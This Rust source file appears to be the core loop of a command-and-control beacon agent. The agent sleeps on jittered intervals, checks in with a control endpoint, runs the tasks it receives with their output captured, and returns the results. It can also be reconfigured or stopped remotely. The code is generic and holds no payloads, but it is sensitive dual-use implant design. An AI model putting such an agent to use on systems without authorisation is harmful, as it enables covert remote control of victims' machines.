//! Core agent loop.
//!
//! The agent repeats one cycle until it is told to stop:
//! - Sleep for a jittered dwell interval
//! - Send the previous cycle's results and receive the next batch of tasks
//! - Decode and run each task in order, collecting results by id
//! - Serialize the results for the next request
//!
//! No failure inside a cycle ends the loop. Bad task nodes are skipped,
//! failed tasks report unsuccessful results, and a failed round-trip abandons
//! the cycle until the next dwell.

mod scheduler;
mod stop;

pub use scheduler::{DwellScheduler, MeanDwell};
pub use stop::StopHandle;

use std::sync::Arc;

use crate::config::AgentConfig;
use crate::error::{ConfigError, TransportError};
use crate::protocol::{ResultSet, parse_batch};
use crate::system::{LocalSystem, System};
use crate::tasks::{DEFAULT_MAX_OUTPUT_BYTES, Task, TaskContext, TaskResult, decode_task};
use crate::transport::{HttpTransport, Transport};

/// Runtime controls exposed to configure tasks.
pub trait AgentControl: Send {
    /// Replace the mean dwell for all later draws.
    fn set_mean_dwell(&mut self, mean_dwell: MeanDwell);

    /// Set the run flag. The loop checks it only between cycles.
    fn set_running(&mut self, is_running: bool);

    /// Apply both settings in one call.
    fn apply_configuration(&mut self, mean_dwell: MeanDwell, is_running: bool) {
        self.set_mean_dwell(mean_dwell);
        self.set_running(is_running);
    }
}

/// Counts for a single completed cycle.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct CycleReport {
    /// Tasks decoded and run.
    pub executed: usize,
    /// Nodes that failed to decode.
    pub skipped: usize,
}

/// Totals over one call to [`Agent::serve`].
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct ServeStats {
    /// Cycles whose round-trip succeeded.
    pub cycles: u64,
    /// Cycles abandoned because the round-trip failed.
    pub transport_failures: u64,
    pub tasks_executed: u64,
    pub tasks_skipped: u64,
}

/// A beaconing agent bound to one control endpoint.
pub struct Agent {
    host: String,
    service: String,
    transport: Arc<dyn Transport>,
    system: Arc<dyn System>,
    is_running: bool,
    scheduler: DwellScheduler,
    results: ResultSet,
    /// Serialized results waiting to be sent. Kept until a round-trip succeeds.
    outbound: String,
    max_output_bytes: usize,
    stop: StopHandle,
}

impl Agent {
    /// Create an agent for `host`/`service` using the given transport.
    ///
    /// Defaults: local system capabilities, 1 second mean dwell, 1 MiB
    /// output cap.
    pub fn new(
        host: impl Into<String>,
        service: impl Into<String>,
        transport: Arc<dyn Transport>,
    ) -> Self {
        Self {
            host: host.into(),
            service: service.into(),
            transport,
            system: Arc::new(LocalSystem::new()),
            is_running: true,
            scheduler: DwellScheduler::new(MeanDwell::default()),
            results: ResultSet::new(),
            outbound: ResultSet::new().to_payload(),
            max_output_bytes: DEFAULT_MAX_OUTPUT_BYTES,
            stop: StopHandle::new(),
        }
    }

    /// Create an agent from validated configuration.
    pub fn from_config(
        config: &AgentConfig,
        transport: Arc<dyn Transport>,
    ) -> Result<Self, ConfigError> {
        config.validate()?;
        Ok(Self::new(&config.host, &config.service, transport)
            .with_mean_dwell(MeanDwell::new(config.mean_dwell)?)
            .with_max_output_bytes(config.max_output_bytes))
    }

    /// Create an agent that checks in over HTTP as described by `config`.
    pub fn over_http(config: &AgentConfig) -> crate::error::Result<Self> {
        config.validate()?;
        let transport = HttpTransport::new(&config.scheme, &config.path, config.request_timeout())?;
        Ok(Self::from_config(config, Arc::new(transport))?)
    }

    /// Use different host capabilities.
    pub fn with_system(mut self, system: Arc<dyn System>) -> Self {
        self.system = system;
        self
    }

    /// Set the initial mean dwell.
    pub fn with_mean_dwell(mut self, mean_dwell: MeanDwell) -> Self {
        self.scheduler.set_mean_dwell(mean_dwell);
        self
    }

    /// Replace the dwell scheduler (e.g. with a seeded one).
    pub fn with_scheduler(mut self, scheduler: DwellScheduler) -> Self {
        self.scheduler = scheduler;
        self
    }

    /// Set the cap on captured command output.
    pub fn with_max_output_bytes(mut self, max_output_bytes: usize) -> Self {
        self.max_output_bytes = max_output_bytes;
        self
    }

    pub fn host(&self) -> &str {
        &self.host
    }

    pub fn service(&self) -> &str {
        &self.service
    }

    pub fn is_running(&self) -> bool {
        self.is_running && !self.stop.is_stopped()
    }

    pub fn mean_dwell(&self) -> MeanDwell {
        self.scheduler.mean_dwell()
    }

    /// Payload that the next round-trip will send.
    pub fn outbound_payload(&self) -> &str {
        &self.outbound
    }

    /// Handle for stopping the agent from another task or thread.
    pub fn stop_handle(&self) -> StopHandle {
        self.stop.clone()
    }

    /// Run cycles until the agent is stopped.
    ///
    /// The run flag is checked only at the top of each cycle, so a stop issued
    /// by a configure task takes effect after the rest of its batch has run.
    pub async fn serve(&mut self) -> ServeStats {
        let mut stats = ServeStats::default();

        tracing::info!(
            host = %self.host,
            service = %self.service,
            mean_dwell = %self.scheduler.mean_dwell(),
            "Agent started"
        );

        while self.is_running() {
            let dwell = self.scheduler.next_dwell();
            tracing::debug!(dwell_secs = dwell.as_secs_f64(), "Sleeping before check-in");

            tokio::select! {
                _ = tokio::time::sleep(dwell) => {}
                _ = self.stop.stopped() => {
                    tracing::debug!("Stop requested during dwell");
                    break;
                }
            }

            match self.run_cycle().await {
                Ok(report) => {
                    stats.cycles += 1;
                    stats.tasks_executed += report.executed as u64;
                    stats.tasks_skipped += report.skipped as u64;
                }
                Err(e) => {
                    stats.transport_failures += 1;
                    tracing::warn!(error = %e, "Check-in failed, retrying after next dwell");
                }
            }
        }

        tracing::info!(
            cycles = stats.cycles,
            transport_failures = stats.transport_failures,
            tasks_executed = stats.tasks_executed,
            tasks_skipped = stats.tasks_skipped,
            "Agent stopped"
        );

        stats
    }

    /// Perform one round-trip and run the returned batch.
    ///
    /// On transport failure nothing is executed and the pending payload is
    /// kept for the next attempt.
    pub async fn run_cycle(&mut self) -> Result<CycleReport, TransportError> {
        let response = self
            .transport
            .request(&self.host, &self.service, &self.outbound)
            .await?;

        let nodes = match parse_batch(&response) {
            Ok(nodes) => nodes,
            Err(e) => {
                tracing::warn!(error = %e, "Ignoring unparseable task batch");
                Vec::new()
            }
        };

        let mut report = CycleReport::default();
        for node in &nodes {
            let task = match decode_task(node) {
                Ok(task) => task,
                Err(e) => {
                    report.skipped += 1;
                    tracing::warn!(error = %e, "Skipping malformed task");
                    continue;
                }
            };

            let result = self.execute(&task).await;
            tracing::debug!(
                task_id = %result.id(),
                task_type = task.key(),
                success = result.is_success(),
                "Task finished"
            );
            self.results.insert(result);
            report.executed += 1;
        }

        self.outbound = self.results.take_payload();

        tracing::info!(
            executed = report.executed,
            skipped = report.skipped,
            "Cycle complete"
        );

        Ok(report)
    }

    async fn execute(&mut self, task: &Task) -> TaskResult {
        let system = Arc::clone(&self.system);
        let mut ctx = TaskContext {
            system: system.as_ref(),
            max_output_bytes: self.max_output_bytes,
            agent: self,
        };
        task.run(&mut ctx).await
    }
}

impl AgentControl for Agent {
    fn set_mean_dwell(&mut self, mean_dwell: MeanDwell) {
        self.scheduler.set_mean_dwell(mean_dwell);
    }

    fn set_running(&mut self, is_running: bool) {
        if self.is_running != is_running {
            tracing::info!(is_running, "Run flag changed");
        }
        self.is_running = is_running;
    }
}

impl std::fmt::Debug for Agent {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Agent")
            .field("host", &self.host)
            .field("service", &self.service)
            .field("is_running", &self.is_running)
            .field("scheduler", &self.scheduler)
            .field("pending_results", &self.results.len())
            .finish_non_exhaustive()
    }
}
